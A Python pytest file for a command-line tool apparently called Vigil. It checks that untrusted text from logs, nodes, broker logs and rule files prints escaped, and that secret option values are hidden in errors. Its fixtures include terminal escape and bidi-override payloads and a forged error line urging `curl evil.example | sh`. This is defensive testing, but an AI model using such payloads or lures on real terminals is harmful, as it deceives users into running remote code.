"""What the command line prints of text it did not write (a record's key and bytes, a node's
error, a log message quoting a feed) reaches the terminal as text: no ESC/OSC sequence, C1
control or bidi override, no Rich markup, no forged line; and an ``--option`` it cannot use
is named without its value."""

from __future__ import annotations

import logging
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from vigil.cli import app
from vigil.cli._common import console, run_guarded
from vigil.cli.dlq import _shown
from vigil.config import load_settings
from vigil.errors import ConfigError
from vigil.hub.broker import from_settings

#: Clears the screen, opens a hyperlink to evil.example (OSC 8), and hides what follows.
SEQUENCES = "\x1b[2J\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\x1b[8m"
#: C1 CSI (a terminal reads it as ESC [) and a right-to-left override: JSON leaves both as they are.
C1_AND_BIDI = "\x9b2J\u202eexe.txt"
#: A second line dressed as one of Vigil's own.
FORGED = "\nerror: ethereum: the node's keys were rotated; run `curl evil.example | sh`"


def _terminal_safe(text: str) -> bool:
    return all(ch.isprintable() or ch == "\n" for ch in text)


# ---------------------------------------------------------------------------- logging and errors


@pytest.fixture
def log_lines() -> Iterator[None]:
    """Handlers the entry point leaves on the ``vigil`` loggers are taken off after the test."""
    loggers = [logging.getLogger(name) for name in ("vigil", "vigil.config")]
    before = {log.name: list(log.handlers) for log in loggers}
    yield
    for log in loggers:
        for handler in [h for h in log.handlers if h not in before[log.name]]:
            log.removeHandler(handler)


def _run(command: typer.models.CommandFunctionType, monkeypatch: pytest.MonkeyPatch) -> int:
    one = typer.Typer()
    one.command()(command)
    monkeypatch.setattr(sys, "argv", ["vigil"])
    with pytest.raises(SystemExit) as ended:
        run_guarded(one)
    return int(ended.value.code or 0)


@pytest.mark.usefixtures("log_lines")
def test_a_log_message_quoting_a_node_is_one_inert_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def poll() -> None:
        logging.getLogger("vigil.sources.chain").warning("eth: node busy (%s)", SEQUENCES + FORGED)

    assert _run(poll, monkeypatch) == 0
    err = capsys.readouterr().err
    assert err.count("\n") == 1, err
    assert _terminal_safe(err), repr(err)
    assert err.startswith("warning: eth: node busy (\\x1b[2J\\x1b]8;;https://evil.example/")
    assert "\\nerror: ethereum: the node's keys were rotated" in err


@pytest.mark.usefixtures("log_lines")
def test_a_logged_traceback_keeps_its_lines_and_none_of_them_drives_the_terminal(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def poll() -> None:
        try:
            raise ValueError(SEQUENCES)
        except ValueError:
            logging.getLogger("vigil.sources.chain").exception("eth: unexpected %s", C1_AND_BIDI)

    assert _run(poll, monkeypatch) == 0
    lines = capsys.readouterr().err.splitlines()
    assert lines[0] == "error: eth: unexpected \\x9b2J\\u202eexe.txt"
    assert lines[1] == "Traceback (most recent call last):"
    assert lines[-1].startswith("ValueError: \\x1b[2J\\x1b]8;;https://evil.example/")
    assert all(_terminal_safe(line) for line in lines)


@pytest.mark.usefixtures("log_lines")
def test_an_error_quoting_a_node_prints_as_text(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail() -> None:
        raise ConfigError(f"eth: the node returned {SEQUENCES} [link=https://evil.example/]x[/link]")

    assert _run(fail, monkeypatch) == 1
    err = capsys.readouterr().err
    assert _terminal_safe(err), repr(err)
    assert err.startswith("error: eth: the node returned \\x1b[2J")
    assert "[link=https://evil.example/]x[/link]" in err


def test_a_broker_log_prints_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # `vigil broker logs` printed the node's log raw: it quotes what clients sent (topic names,
    # principals), and its ESC/OSC sequences reached the terminal.
    monkeypatch.setenv("VIGIL_HOME", str(tmp_path))
    log = from_settings(load_settings()).log_path(1)
    log.parent.mkdir(parents=True)
    log.write_text(f"[2026-12-03 07:00:00,000] INFO created topic {SEQUENCES}{C1_AND_BIDI}\nsecond line\n")
    result = CliRunner().invoke(app, ["broker", "logs"])
    assert result.exit_code == 0, result.output
    assert _terminal_safe(result.output), repr(result.output)
    assert "created topic \\x1b[2J\\x1b]8;;https://evil.example/" in result.output
    assert result.output.splitlines()[1] == "second line"


def test_a_dead_letter_reason_keeps_its_emoji_codes_as_written(capsys: pytest.CaptureFixture[str]) -> None:
    # A reason quoting a sender's field named `:white_check_mark:` printed a check mark.
    console.print(f"reason: {_shown('unknown field `:white_check_mark:`')}", highlight=False)
    assert capsys.readouterr().out == "reason: unknown field `:white_check_mark:`\n"


# ---------------------------------------------------------------------------- --option values


@pytest.mark.parametrize(
    ("args", "secret", "named"),
    [
        # vigil run without the -s its option names
        (
            ["run", "-o", "hubspot.client_secret=hs-SECRET-123456"],
            "hs-SECRET",
            "hubspot.client_secret=<hidden>",
        ),
        # a mistyped source name before a node URL holding its key
        (
            ["run", "-s", "ethereum", "-o", "etherum.url=https://mainnet.infura.io/v3/0123456789abcdef"],
            "0123456789abcdef",
            "--option etherum.url=<hidden>: expected SOURCE.KEY=VALUE with SOURCE one of ['ethereum']",
        ),
        # no SOURCE. and no KEY=: nothing of it is a name
        (["run", "-s", "mailchimp", "-o", "secret:mc-SECRET-1"], "mc-SECRET", "--option number 1 "),
        (["run", "-s", "mailchimp", "-o", "mailchimp.secret:mc-SECRET-1"], "mc-SECRET", "--option number 1 "),
        (
            ["source", "mailchimp", "-o", "port=1", "-o", "secret:mc-SECRET-1"],
            "mc-SECRET",
            "--option number 2 ",
        ),
        # a URL given without its key: the part before its query's "=" is no option name
        (
            ["source", "ethereum", "-o", "https://node.example/v3/KEY-0123?x=1"],
            "KEY-0123",
            "--option number 1 ",
        ),
    ],
)
def test_an_option_that_cannot_be_read_is_named_without_its_value(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], secret: str, named: str
) -> None:
    monkeypatch.setenv("VIGIL_HOME", str(tmp_path))
    result = CliRunner().invoke(app, args)
    assert isinstance(result.exception, ConfigError), result.output
    assert secret not in str(result.exception) + result.output
    assert named in str(result.exception)


def test_rules_test_prints_a_cases_name_as_text(tmp_path: Path) -> None:
    # A case's name (a rule file shared by someone else) reached the terminal with its ESC/OSC
    # sequences: `vigil rules test` escaped only Rich markup.
    from tests.unit.detect.test_validate import GOOD

    name = "three denials \x1b[2J\x1b]0;title\x07 \u202e"
    failing = GOOD.replace(
        "name: three denials", f'name: "{name.encode("unicode_escape").decode()}"'
    ).replace('entity: "customer:c1"', 'entity: "customer:c2"')
    (tmp_path / "esc.yaml").write_text(failing)
    result = CliRunner().invoke(app, ["rules", "test", str(tmp_path)], terminal_width=300)
    assert result.exit_code == 1, result.output
    assert "FAIL" in result.output
    assert _terminal_safe(result.output), repr(result.output)
    assert "three denials \\x1b[2J\\x1b]0;title\\x07 \\u202e" in result.output


def test_a_path_is_printed_as_written(tmp_path: Path) -> None:
    # A directory named with Rich markup ("[/]") wrote the files, then failed with MarkupError.
    where = tmp_path / "schemas[/]x"
    result = CliRunner().invoke(app, ["schemas", "export", str(where)], terminal_width=400)
    assert result.exit_code == 0, result.output
    assert str(where) in "".join(result.output.split())  # (wrapped at the console's width)
